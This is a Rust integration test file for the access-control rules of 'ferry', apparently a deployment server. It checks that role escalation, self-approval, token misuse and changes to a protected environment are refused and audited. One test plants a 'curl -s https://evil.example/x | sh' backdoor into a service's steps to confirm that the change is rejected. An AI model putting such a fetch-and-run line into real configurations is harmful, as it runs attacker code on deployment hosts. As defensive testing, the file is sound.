//! The attacks of the access-control issue, each told as the story of
//! someone trying it. Before access control every user could do
//! everything; now each attempt is refused with a problem that says why,
//! and leaves the world as it was: the configuration, releases,
//! deployments, freezes, change requests, people, grants, agents and
//! variables read the same afterwards, and the audit trail verifies.
//!
//! `bob` is a colleague with a realistic role (developer or deployer
//! everywhere, as the old world would have let anyone be); the other
//! people are those of `common::world`. Every story runs on SQLite and on
//! PostgreSQL.

#[macro_use]
mod common;

use axum::http::{Method, StatusCode};
use common::world::{CONFIG, Person, SECRET_VALUE, World, grant, name, version};
use common::{ADMIN_TOKEN, Api, Backend, Reply, problem};
use ferry_core::access::Role;
use ferry_store::deployments::NewDeployment;
use serde_json::{Value, json};

stories!(
    a_developer_cannot_rewrite_the_configuration_nor_read_a_secret,
    only_agents_report_what_agents_run_and_cancel_ends_what_no_agent_drives,
    a_developer_cannot_lift_freezes_approve_their_own_change_or_stop_others_work,
    whoever_raised_a_change_may_not_assess_approve_reject_or_defer_it,
    refusals_by_the_rules_of_duties_are_audited_like_any_other,
    an_author_of_a_release_cannot_approve_it_for_prod,
    the_last_working_admin_credential_cannot_be_given_up,
    agent_tokens_serve_agents_only_and_die_with_revocation_or_rotation,
    reserved_names_and_taken_e_mails_are_refused,
    a_protected_environment_needs_a_grant_that_names_it,
    a_narrowed_token_does_only_what_it_was_narrowed_to,
);

/// The world, with `bob` (bob@example.com) holding `roles` everywhere.
async fn world_with_bob(backend: &Backend, roles: &[Role]) -> (World, Person) {
    let mut world = World::build(backend).await;
    let grants: Vec<_> = roles.iter().map(|role| grant(*role, None, None)).collect();
    let bob = world
        .add_person("bob", Some("bob@example.com"), &grants)
        .await;
    (world, bob)
}

/// Asserts a refusal with `status` (as a problem of type `slug`) whose
/// detail says each of `why`; answers the detail.
fn refused(reply: &Reply, status: StatusCode, slug: &str, why: &[&str]) -> String {
    let detail = problem(reply, status, slug);
    for reason in why {
        assert!(
            detail.contains(reason),
            "the refusal should say {reason:?}: {detail}"
        );
    }
    detail
}

/// Runs `attempt` and checks it left the world as it was and the audit
/// trail intact; answers what the attempt answered.
async fn leaves_nothing_changed(
    world: &World,
    what: &str,
    attempt: impl AsyncFnOnce() -> Reply,
) -> Reply {
    let before = world.snapshot().await;
    let reply = attempt().await;
    world.snapshot().await.assert_unchanged_since(&before, what);
    world.audit_intact().await.unwrap();
    reply
}

/// Asserts that the last audit event is `bob`'s refusal.
async fn refusal_audited(world: &World, who: &str) {
    let (actor, action, details) = world.last_audit().await;
    assert_eq!(
        (actor.as_str(), action.as_str()),
        (who, "access.denied"),
        "{details}"
    );
}

/// a. A developer (or deployer) rewriting ferry.toml through `apply`, to
///    lift prod's policy or to change what a service's steps run, is refused;
///    listing variables (a read, `ferry var list`) never shows a secret.
async fn a_developer_cannot_rewrite_the_configuration_nor_read_a_secret(backend: &Backend) {
    let (world, bob) = world_with_bob(backend, &[Role::Deployer]).await;
    let unprotected = CONFIG.replace(
        "protected = true\npolicy = { approvals = 1, separation_of_duties = true }",
        "policy = { approvals = 0, separation_of_duties = false }",
    );
    let backdoored = CONFIG.replace(
        r#"run = "true""#,
        r#"run = "curl -s https://evil.example/x | sh""#,
    );
    for (attack, toml) in [
        ("lifting prod's policy", unprotected),
        ("rewriting hello's steps", backdoored),
    ] {
        assert_ne!(toml, CONFIG, "{attack}: the attack changes the file");
        let config = ferry_core::config::parse(&toml).unwrap();
        let reply = leaves_nothing_changed(&world, attack, async || {
            world
                .by(&bob)
                .post("/api/v1/apply", json!({ "config": config }))
                .await
        })
        .await;
        refused(
            &reply,
            StatusCode::FORBIDDEN,
            "forbidden",
            &["bob may not apply", "the admin role"],
        );
        refusal_audited(&world, "bob").await;
        // Asking what it would change is a read, and changes nothing.
        let plan = leaves_nothing_changed(&world, attack, async || {
            world
                .by(&bob)
                .post(
                    "/api/v1/apply",
                    json!({ "config": config, "dry_run": true }),
                )
                .await
        })
        .await;
        assert_eq!(plan.status, StatusCode::OK, "{:?}", plan.body);
        assert_eq!(plan.body["applied"], false);
    }

    for reader in [world.by(&bob), world.admin()] {
        let listed = reader.get("/api/v1/environments/dev/variables").await;
        assert_eq!(listed.status, StatusCode::OK, "{:?}", listed.body);
        let secret = listed.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["name"] == "DB_PASSWORD")
            .expect("the secret is listed");
        assert_eq!(secret["secret"], true);
        assert!(secret["value"].is_null(), "{secret}");
        assert!(!listed.body.to_string().contains(SECRET_VALUE));
    }
    let trail = world.admin().get("/api/v1/audit/export").await;
    assert_eq!(trail.status, StatusCode::OK);
    assert!(!trail.body.to_string().contains(SECRET_VALUE));
    world.close().await;
}

/// b. Reporting progress of a deployment that ferry's agents run would
///    let anyone mark it succeeded: refused, with the reason. A deployment
///    reported running by another tool (a service without steps) has no
///    agent to stop it: cancelling it ends it at once, for an administrator
///    and for a deployer.
async fn only_agents_report_what_agents_run_and_cancel_ends_what_no_agent_drives(
    backend: &Backend,
) {
    let (world, bob) = world_with_bob(backend, &[Role::Deployer]).await;
    let agents_run = format!("/api/v1/deployments/{}/report", world.hello_deployment);
    for status in ["succeeded", "running"] {
        let reply = leaves_nothing_changed(&world, "reporting an agent's deployment", async || {
            world
                .by(&bob)
                .post(&agents_run, json!({ "status": status }))
                .await
        })
        .await;
        refused(
            &reply,
            StatusCode::CONFLICT,
            "conflict",
            &["run by ferry's agents", "only they report"],
        );
    }
    let hello = world
        .admin()
        .get(&format!("/api/v1/deployments/{}", world.hello_deployment))
        .await;
    assert_eq!(hello.body["status"], "queued");

    // Another tool deploys api and says so; then someone cancels.
    let staging = world
        .api
        .store
        .create_deployment(
            "admin",
            &name("api"),
            &version("1.0.0"),
            &name("staging"),
            NewDeployment::default(),
        )
        .await
        .unwrap()
        .id;
    for (deployment, canceller) in [(world.deployment, world.admin()), (staging, world.by(&bob))] {
        let running = world
            .by(&bob)
            .post(
                &format!("/api/v1/deployments/{deployment}/report"),
                json!({ "status": "running", "url": "https://ci.example.com/runs/1" }),
            )
            .await;
        assert_eq!(running.status, StatusCode::OK, "{:?}", running.body);
        assert_eq!(running.body["status"], "running");
        let cancelled = canceller
            .post(
                &format!("/api/v1/deployments/{deployment}/cancel"),
                json!({}),
            )
            .await;
        assert_eq!(cancelled.status, StatusCode::OK, "{:?}", cancelled.body);
        assert_eq!(
            cancelled.body["status"], "cancelled",
            "{:?}",
            cancelled.body
        );
    }
    world.audit_intact().await.unwrap();
    world.close().await;
}

/// c. A developer may not delete an administrator's freeze, approve the
///    emergency change they raised (not even once they are an approver
///    too), implement a change (a deployer's move), cancel someone's
///    deployment, or abandon a release.
async fn a_developer_cannot_lift_freezes_approve_their_own_change_or_stop_others_work(
    backend: &Backend,
) {
    let (world, bob) = world_with_bob(backend, &[Role::Developer]).await;
    let reply = leaves_nothing_changed(&world, "deleting the freeze", async || {
        world.by(&bob).delete("/api/v1/freezes/year-end").await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["bob may not create and delete freezes", "release-manager"],
    );
    refusal_audited(&world, "bob").await;
    let freezes = world.by(&bob).get("/api/v1/freezes").await;
    assert_eq!(freezes.body["items"][0]["name"], "year-end");

    // bob raises an emergency change and submits it: a developer may.
    let raised = world
        .by(&bob)
        .post(
            "/api/v1/change-requests",
            json!({ "title": "hotfix", "type": "emergency", "service": "api", "environment": "dev" }),
        )
        .await;
    assert_eq!(raised.status, StatusCode::CREATED, "{:?}", raised.body);
    let change = format!("/api/v1/change-requests/{}", raised.body["id"]);
    let submitted = world
        .by(&bob)
        .post(&format!("{change}/submit"), json!({}))
        .await;
    assert_eq!(submitted.status, StatusCode::OK, "{:?}", submitted.body);

    let approve = format!("{change}/approve");
    let reply = leaves_nothing_changed(&world, "approving one's own change", async || {
        world.by(&bob).post(&approve, json!({})).await
    })
    .await;
    refused(&reply, StatusCode::FORBIDDEN, "forbidden", &["approver"]);
    let made_approver = world
        .admin()
        .post(
            "/api/v1/grants",
            json!({ "user": "bob", "role": "approver" }),
        )
        .await;
    assert_eq!(made_approver.status, StatusCode::CREATED);
    let reply = leaves_nothing_changed(&world, "approving one's own change", async || {
        world.by(&bob).post(&approve, json!({})).await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["bob raised change request", "may not approve it"],
    );

    let approver = world.person("approver").clone();
    let approved = world.by(&approver).post(&approve, json!({})).await;
    assert_eq!(approved.status, StatusCode::OK, "{:?}", approved.body);
    let reply = leaves_nothing_changed(&world, "implementing a change", async || {
        world
            .by(&bob)
            .post(&format!("{change}/implement"), json!({}))
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["mark change requests implemented", "deployer"],
    );

    let cancel = format!("/api/v1/deployments/{}/cancel", world.deployment);
    let reply = leaves_nothing_changed(&world, "cancelling admin's deployment", async || {
        world.by(&bob).post(&cancel, json!({})).await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["bob may not cancel deployments", "deployer"],
    );
    let reply = leaves_nothing_changed(&world, "abandoning a release", async || {
        world
            .by(&bob)
            .post("/api/v1/services/api/releases/1.0.0/abandon", json!({}))
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["bob may not abandon releases", "deployer"],
    );
    refusal_audited(&world, "bob").await;
    world.close().await;
}

/// c'. The issue's table: approvers assess, approve, reject and defer
///    change requests, never their own. bob, a developer and an approver,
///    raises an emergency change and submits it; then he may do none of
///    the four to it (each tried on a change of its own, from the state
///    that allows the verb, so only the rule can refuse).
async fn whoever_raised_a_change_may_not_assess_approve_reject_or_defer_it(backend: &Backend) {
    let (world, bob) = world_with_bob(backend, &[Role::Developer, Role::Approver]).await;
    let mut allowed = Vec::new();
    for (verb, body) in [
        ("assess", json!({ "risk": "low" })),
        ("approve", json!({})),
        ("reject", json!({ "reason": "changed my mind" })),
        ("defer", json!({ "reason": "after the launch" })),
    ] {
        let raised = world
            .by(&bob)
            .post(
                "/api/v1/change-requests",
                json!({ "title": verb, "type": "emergency", "service": "api", "environment": "dev" }),
            )
            .await;
        assert_eq!(raised.status, StatusCode::CREATED, "{:?}", raised.body);
        let change = format!("/api/v1/change-requests/{}", raised.body["id"]);
        let submitted = world
            .by(&bob)
            .post(&format!("{change}/submit"), json!({}))
            .await;
        assert_eq!(submitted.status, StatusCode::OK, "{:?}", submitted.body);
        let before = world.snapshot().await;
        let reply = world.by(&bob).post(&format!("{change}/{verb}"), body).await;
        if reply.status == StatusCode::FORBIDDEN {
            refused(
                &reply,
                StatusCode::FORBIDDEN,
                "forbidden",
                &["bob raised change request"],
            );
            world.snapshot().await.assert_unchanged_since(&before, verb);
        } else {
            allowed.push(format!("{verb}: {} {}", reply.status, reply.body["state"]));
        }
    }
    world.audit_intact().await.unwrap();
    world.close().await;
    assert!(
        allowed.is_empty(),
        "bob, who raised the change, was let {}",
        allowed.join("; ")
    );
}

/// c''. A refusal is answered 403 and, unless the action was a read,
///    written to the audit trail (ferry-server's `authorize`): so are the
///    refusals that come from the rules of duties rather than the
///    permission table, which are the attempts most worth knowing about:
///    approving one's own change, approving a release one authored.
async fn refusals_by_the_rules_of_duties_are_audited_like_any_other(backend: &Backend) {
    let mut world = World::build(backend).await;
    let bob = world
        .add_person(
            "bob",
            Some("bob@example.com"),
            &[
                grant(Role::Developer, None, None),
                grant(Role::Approver, None, None),
                grant(Role::Approver, None, Some("prod")),
            ],
        )
        .await;
    let raised = world
        .by(&bob)
        .post(
            "/api/v1/change-requests",
            json!({ "title": "hotfix", "type": "emergency", "service": "api", "environment": "dev" }),
        )
        .await;
    let change = format!("/api/v1/change-requests/{}", raised.body["id"]);
    let submitted = world
        .by(&bob)
        .post(&format!("{change}/submit"), json!({}))
        .await;
    assert_eq!(submitted.status, StatusCode::OK, "{:?}", submitted.body);
    release(
        &world,
        "3.0.0",
        json!(["Bob Reviewer <bob@example.com>"]),
        json!([]),
    )
    .await;

    let mut unaudited = Vec::new();
    for (attempt, path, body) in [
        (
            "approving the change he raised",
            format!("{change}/approve"),
            json!({}),
        ),
        (
            "approving for prod the release he authored",
            "/api/v1/services/api/releases/3.0.0/decisions".to_owned(),
            json!({ "environment": "prod", "approve": true }),
        ),
    ] {
        let head = world.audit_head().await;
        let reply = world.by(&bob).post(&path, body).await;
        refused(&reply, StatusCode::FORBIDDEN, "forbidden", &["bob"]);
        let events = world.audit_after(head).await;
        if events != [("bob".to_owned(), "access.denied".to_owned())] {
            unaudited.push(format!("{attempt}: the audit trail got {events:?}"));
        }
    }
    world.audit_intact().await.unwrap();
    world.close().await;
    assert!(
        unaudited.is_empty(),
        "403s not written to the audit trail as access.denied:\n{}",
        unaudited.join("\n")
    );
}

/// Admin creates `api@v` with `authors` and `commits`.
async fn release(world: &World, v: &str, authors: Value, commits: Value) {
    let created = world
        .admin()
        .post(
            "/api/v1/services/api/releases",
            json!({ "version": v, "authors": authors, "commits": commits }),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{:?}", created.body);
}

/// A commit by `author` with these footers.
fn commit(author: &str, footers: Value) -> Value {
    json!({
        "id": "0123456789abcdef0123456789abcdef01234567",
        "type": "fix", "scope": null, "breaking": false,
        "subject": "a fix", "body": null,
        "footers": footers, "authors": [author],
        "time": "2026-01-01T00:00:00Z",
    })
}

/// d. prod keeps separation of duties: bob, an approver for prod whose
///    e-mail is bob@example.com, may not approve a release he authored,
///    whether his name is on its authors or only in a `Co-authored-by`
///    footer. A namesake with another e-mail is another person.
async fn an_author_of_a_release_cannot_approve_it_for_prod(backend: &Backend) {
    let mut world = World::build(backend).await;
    let bob = world
        .add_person(
            "bob",
            Some("bob@example.com"),
            &[grant(Role::Approver, None, Some("prod"))],
        )
        .await;
    release(
        &world,
        "3.0.0",
        json!(["Bob Reviewer <bob@example.com>"]),
        json!([]),
    )
    .await;
    // E-mails are compared without regard to case.
    let footers = json!([{ "token": "Co-authored-by", "value": "Bob Reviewer <BOB@Example.com>" }]);
    release(
        &world,
        "3.1.0",
        json!([]),
        json!([commit("Alice Author <alice@example.com>", footers)]),
    )
    .await;
    release(
        &world,
        "3.2.0",
        json!(["bob <bob@elsewhere.example.org>"]),
        json!([]),
    )
    .await;

    let approve = json!({ "environment": "prod", "approve": true, "comment": "lgtm" });
    for v in ["3.0.0", "3.1.0"] {
        let path = format!("/api/v1/services/api/releases/{v}/decisions");
        let reply = leaves_nothing_changed(&world, "approving one's own release", async || {
            world.by(&bob).post(&path, approve.clone()).await
        })
        .await;
        refused(
            &reply,
            StatusCode::FORBIDDEN,
            "forbidden",
            &["bob authored commits of api@", "separation of duties"],
        );
    }
    for v in ["3.0.0", "3.1.0"] {
        let decisions = world
            .admin()
            .get(&format!(
                "/api/v1/services/api/releases/{v}/decisions?environment=prod"
            ))
            .await;
        assert_eq!(
            decisions.body["items"],
            json!([]),
            "api@{v}: nothing recorded"
        );
    }
    let namesake = world
        .by(&bob)
        .post(
            "/api/v1/services/api/releases/3.2.0/decisions",
            approve.clone(),
        )
        .await;
    assert_eq!(namesake.status, StatusCode::CREATED, "{:?}", namesake.body);

    // Nor does whoever created a release approve it.
    let developer = world
        .admin()
        .post(
            "/api/v1/grants",
            json!({ "user": "bob", "role": "developer" }),
        )
        .await;
    assert_eq!(
        developer.status,
        StatusCode::CREATED,
        "{:?}",
        developer.body
    );
    let created = world
        .by(&bob)
        .post(
            "/api/v1/services/api/releases",
            json!({ "version": "4.0.0" }),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{:?}", created.body);
    let reply = leaves_nothing_changed(&world, "approving a release one created", async || {
        world
            .by(&bob)
            .post("/api/v1/services/api/releases/4.0.0/decisions", approve)
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["bob created the release api@4.0.0", "separation of duties"],
    );
    world.audit_intact().await.unwrap();
    world.close().await;
}

/// e. The bootstrap administrator's only token, the administrator
///    themselves and their admin grant are the last working administrator
///    credential: revoking, disabling or taking it is refused (409). A
///    narrowed token of theirs does not count as a working credential.
async fn the_last_working_admin_credential_cannot_be_given_up(backend: &Backend) {
    let api = Api::on(backend).await;
    let admin = |method: Method, path: &str, body: Option<Value>| {
        let api = &api;
        let path = path.to_owned();
        async move {
            let body = body.map(|b| b.to_string());
            api.send(method, &path, Some(ADMIN_TOKEN), body.as_deref())
                .await
        }
    };
    let narrowed = admin(
        Method::POST,
        "/api/v1/tokens",
        Some(json!({ "name": "ci", "grants": [{ "role": "developer" }] })),
    )
    .await;
    assert_eq!(narrowed.status, StatusCode::CREATED, "{:?}", narrowed.body);
    let tokens = admin(Method::GET, "/api/v1/tokens", None).await;
    let bootstrap = tokens.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "bootstrap")
        .unwrap()["id"]
        .clone();
    let grants = admin(Method::GET, "/api/v1/grants?user=admin", None).await;
    let admin_grant = grants.body["items"][0]["id"].clone();
    assert_eq!(grants.body["items"][0]["role"], "admin");

    let state = async || {
        let mut seen = Vec::new();
        for path in ["/api/v1/tokens", "/api/v1/users", "/api/v1/grants"] {
            seen.push(admin(Method::GET, path, None).await.body);
        }
        seen
    };
    let before = state().await;
    for (what, method, path) in [
        (
            "revoking the only token",
            Method::DELETE,
            format!("/api/v1/tokens/{bootstrap}"),
        ),
        (
            "disabling the only administrator",
            Method::POST,
            "/api/v1/users/admin/disable".to_owned(),
        ),
        (
            "revoking the admin grant",
            Method::DELETE,
            format!("/api/v1/grants/{admin_grant}"),
        ),
    ] {
        let reply = admin(method, &path, None).await;
        let detail = refused(
            &reply,
            StatusCode::CONFLICT,
            "conflict",
            &["no working administrator credential"],
        );
        assert_eq!(state().await, before, "{what} changed something: {detail}");
    }
    let whoami = admin(Method::GET, "/api/v1/whoami", None).await;
    assert_eq!(whoami.status, StatusCode::OK);
    let verify = admin(Method::GET, "/api/v1/audit/verify", None).await;
    assert_eq!(verify.body["intact"], true, "{:?}", verify.body);
    api.close().await;
}

/// f. An agent's token opens only the agent endpoints; an agent revoked
///    is refused at once; after a rotation the old secret is refused and the
///    new one works.
async fn agent_tokens_serve_agents_only_and_die_with_revocation_or_rotation(backend: &Backend) {
    let world = World::build(backend).await;
    let (agent, agent_id) = world.agent.clone();
    for (method, path, body) in [
        (Method::GET, "/api/v1/whoami", None),
        (Method::GET, "/api/v1/releases", None),
        (
            Method::POST,
            "/api/v1/promotions",
            Some(json!({ "service": "api", "version": "1.0.0", "environment": "dev" })),
        ),
        (Method::DELETE, "/api/v1/freezes/year-end", None),
    ] {
        let reply = leaves_nothing_changed(&world, "an agent on a user endpoint", async || {
            world
                .as_token(&agent)
                .send(method, path, body.as_ref())
                .await
        })
        .await;
        refused(&reply, StatusCode::UNAUTHORIZED, "unauthorized", &["token"]);
    }
    let hello = world
        .as_token(&agent)
        .post("/api/v1/agent/hello", json!({}))
        .await;
    assert_eq!(hello.status, StatusCode::OK, "{:?}", hello.body);

    let revoked = world
        .admin()
        .delete(&format!("/api/v1/agents/{agent_id}"))
        .await;
    assert_eq!(revoked.status, StatusCode::OK, "{:?}", revoked.body);
    for (method, path) in [
        (Method::POST, "/api/v1/agent/hello"),
        (Method::GET, "/api/v1/agent/jobs/next"),
    ] {
        let body = (method == Method::POST).then(|| json!({}));
        let reply = world
            .as_token(&agent)
            .send(method, path, body.as_ref())
            .await;
        refused(
            &reply,
            StatusCode::UNAUTHORIZED,
            "unauthorized",
            &["revoked"],
        );
    }
    let rotate_revoked = world
        .admin()
        .post(&format!("/api/v1/agents/{agent_id}/token"), json!({}))
        .await;
    refused(&rotate_revoked, StatusCode::CONFLICT, "conflict", &[]);

    let (old, staging_id) = world.staging_agent.clone();
    let rotated = world
        .admin()
        .post(&format!("/api/v1/agents/{staging_id}/token"), json!({}))
        .await;
    assert_eq!(rotated.status, StatusCode::CREATED, "{:?}", rotated.body);
    let new = rotated.body["secret"].as_str().unwrap().to_owned();
    assert_ne!(new, old);
    let stale = world
        .as_token(&old)
        .post("/api/v1/agent/hello", json!({}))
        .await;
    refused(
        &stale,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
        &["revoked"],
    );
    let fresh = world
        .as_token(&new)
        .post("/api/v1/agent/hello", json!({}))
        .await;
    assert_eq!(fresh.status, StatusCode::OK, "{:?}", fresh.body);
    assert_eq!(fresh.body["id"], staging_id);
    world.audit_intact().await.unwrap();
    world.close().await;
}

/// g. Names the server records as its own actors, `system` and `demo`
///    among them, are refused for users and groups; an e-mail another user
///    has, written in another case, is refused; so is a group's name taken.
async fn reserved_names_and_taken_e_mails_are_refused(backend: &Backend) {
    let world = World::build(backend).await;
    let carol = world
        .admin()
        .post(
            "/api/v1/users",
            json!({ "name": "carol", "email": "carol@example.com" }),
        )
        .await;
    assert_eq!(carol.status, StatusCode::CREATED, "{:?}", carol.body);
    for reserved in ["system", "demo"] {
        for (path, body) in [
            (
                "/api/v1/users",
                json!({ "name": reserved, "email": format!("{reserved}@example.com") }),
            ),
            ("/api/v1/groups", json!({ "name": reserved })),
        ] {
            let reply = leaves_nothing_changed(&world, "a reserved name", async || {
                world.admin().post(path, body).await
            })
            .await;
            refused(
                &reply,
                StatusCode::UNPROCESSABLE_ENTITY,
                "invalid",
                &[reserved, "is reserved"],
            );
        }
    }
    let reply = leaves_nothing_changed(&world, "a taken e-mail", async || {
        world
            .admin()
            .post(
                "/api/v1/users",
                json!({ "name": "dave", "email": "Carol@EXAMPLE.com" }),
            )
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::CONFLICT,
        "conflict",
        &["belongs to user \"carol\""],
    );
    let reply = leaves_nothing_changed(&world, "a taken group name", async || {
        world
            .admin()
            .post("/api/v1/groups", json!({ "name": "crew" }))
            .await
    })
    .await;
    refused(&reply, StatusCode::CONFLICT, "conflict", &["crew"]);
    world.close().await;
}

/// h. prod is protected: a deployer everywhere, and an administrator
///    everywhere, may not promote into prod, approve for it, cancel or
///    report a deployment there or roll it back; the refusal says why and
///    how to grant. A deployer whose grant names prod passes authorization (the
///    gates then judge the promotion).
async fn a_protected_environment_needs_a_grant_that_names_it(backend: &Backend) {
    let (mut world, bob) = world_with_bob(backend, &[Role::Deployer]).await;
    let in_prod = world
        .api
        .store
        .create_deployment(
            "admin",
            &name("api"),
            &version("1.0.0"),
            &name("prod"),
            NewDeployment::default(),
        )
        .await
        .unwrap()
        .id;
    let alice = world.person("alice").clone();
    let protected = ["prod is protected", "--env prod"];
    for (who, person) in [("bob", &bob), ("alice", &alice)] {
        for (attack, path, body) in [
            (
                "promoting into prod",
                "/api/v1/promotions".to_owned(),
                json!({ "service": "api", "version": "1.0.0", "environment": "prod" }),
            ),
            (
                "an emergency promotion into prod",
                "/api/v1/promotions".to_owned(),
                json!({ "service": "api", "version": "1.0.0", "environment": "prod",
                        "emergency_reason": "it is urgent" }),
            ),
            (
                "approving for prod",
                "/api/v1/services/api/releases/1.0.0/decisions".to_owned(),
                json!({ "environment": "prod", "approve": true }),
            ),
            (
                "cancelling a prod deployment",
                format!("/api/v1/deployments/{in_prod}/cancel"),
                json!({}),
            ),
            (
                "rolling prod back",
                "/api/v1/rollbacks".to_owned(),
                json!({ "service": "api", "environment": "prod" }),
            ),
            (
                "reporting a prod deployment succeeded",
                format!("/api/v1/deployments/{in_prod}/report"),
                json!({ "status": "succeeded" }),
            ),
        ] {
            let reply = leaves_nothing_changed(&world, attack, async || {
                world.by(person).post(&path, body).await
            })
            .await;
            let detail = refused(&reply, StatusCode::FORBIDDEN, "forbidden", &protected);
            assert!(detail.starts_with(who), "{attack}: {detail}");
            refusal_audited(&world, who).await;
        }
    }

    let carol = world
        .add_person("carol", None, &[grant(Role::Deployer, None, Some("prod"))])
        .await;
    let promoted = world
        .by(&carol)
        .post(
            "/api/v1/promotions",
            json!({ "service": "api", "version": "1.0.0", "environment": "prod" }),
        )
        .await;
    match promoted.status {
        StatusCode::CREATED => {}
        StatusCode::CONFLICT => assert_eq!(
            promoted.body["type"], "urn:ferry:problem:gate-blocked",
            "{:?}",
            promoted.body
        ),
        _ => panic!(
            "a deployer of prod passes authorization: {:?}",
            promoted.body
        ),
    }
    world.audit_intact().await.unwrap();
    world.close().await;
}

/// i. An administrator's token narrowed to developer of api may create
///    releases of api, and nothing an administrator or another service's
///    developer would; a token made with it is no wider, and no token is
///    wider than its owner.
async fn a_narrowed_token_does_only_what_it_was_narrowed_to(backend: &Backend) {
    let world = World::build(backend).await;
    let narrowed = world.narrowed.clone();
    let config = world.api.store.config().await.unwrap();
    let reply = leaves_nothing_changed(&world, "applying with a narrowed token", async || {
        world
            .as_token(&narrowed)
            .post("/api/v1/apply", json!({ "config": config }))
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["alice may not apply", "narrowed"],
    );
    refusal_audited(&world, "alice").await;
    let reply = leaves_nothing_changed(&world, "a release of another service", async || {
        world
            .as_token(&narrowed)
            .post(
                "/api/v1/services/other/releases",
                json!({ "version": "9.0.0" }),
            )
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["for service other", "narrowed"],
    );
    let created = world
        .as_token(&narrowed)
        .post(
            "/api/v1/services/api/releases",
            json!({ "version": "9.0.0" }),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{:?}", created.body);

    // Asking for more from a narrowed token does not get more.
    let minted = world
        .as_token(&narrowed)
        .post(
            "/api/v1/tokens",
            json!({ "name": "wider", "grants": [{ "role": "admin" }] }),
        )
        .await;
    if minted.status == StatusCode::CREATED {
        let wider = minted.body["secret"].as_str().unwrap().to_owned();
        let reply = leaves_nothing_changed(&world, "applying with a minted token", async || {
            world
                .as_token(&wider)
                .post("/api/v1/apply", json!({ "config": config }))
                .await
        })
        .await;
        refused(
            &reply,
            StatusCode::FORBIDDEN,
            "forbidden",
            &["alice may not"],
        );
    } else {
        refused(&minted, StatusCode::UNPROCESSABLE_ENTITY, "invalid", &[]);
    }
    // Nor does a viewer's token that asks for the admin role.
    let viewer = world.person("viewer").clone();
    let asked = world
        .by(&viewer)
        .post(
            "/api/v1/tokens",
            json!({ "name": "root", "grants": [{ "role": "admin" }] }),
        )
        .await;
    assert_eq!(asked.status, StatusCode::CREATED, "{:?}", asked.body);
    let root = asked.body["secret"].as_str().unwrap().to_owned();
    let reply = leaves_nothing_changed(&world, "applying with a viewer's token", async || {
        world
            .as_token(&root)
            .post("/api/v1/apply", json!({ "config": config }))
            .await
    })
    .await;
    refused(
        &reply,
        StatusCode::FORBIDDEN,
        "forbidden",
        &["viewer may not apply"],
    );
    world.audit_intact().await.unwrap();
    world.close().await;
}
